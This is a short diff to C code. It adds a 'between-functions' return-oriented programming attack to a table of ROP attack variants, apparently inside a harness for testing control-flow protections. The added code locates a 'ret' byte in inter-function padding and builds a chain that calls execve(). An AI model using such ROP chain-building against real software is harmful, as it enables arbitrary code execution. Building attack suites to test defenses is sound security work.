@@ -59,6 +59,18 @@ static void zero_cut(void) {
   strike();
 }
 
+// A return address in the filling between two functions.
+static void between_functions(void) {
+  word start, end, filling = 0;
+  while ((filling = find_after("c3 66 ?? ?? 1f 84 00 00 00 00 00", filling)) != 0)
+    if (function_at(filling, &start, &end) && !function_at(filling + 5, &start, &end)) break;
+  load_command();
+  add(execve_entry());
+  add(need(filling, "filling between functions") + 5);
+  add_zeros(2);
+  strike();
+}
+
 static void past_prologue(void) {
   load_command_and_rax(SYS_execve);
   below_work(need(find_in("0f 05", execve_entry(), execve_entry() + 64), "syscall instruction in execve()"));
@@ -239,6 +251,7 @@ const struct attack rop_attacks[] = {
     {"borrowed-syscall", borrowed_syscall},
     {"generic-syscall", generic_syscall},
     {"zero-cut", zero_cut},
+    {"between-functions", between_functions},
     {"past-prologue", past_prologue},
     {"genuine-tail", genuine_tail},
     {"jump-register", jump_register},
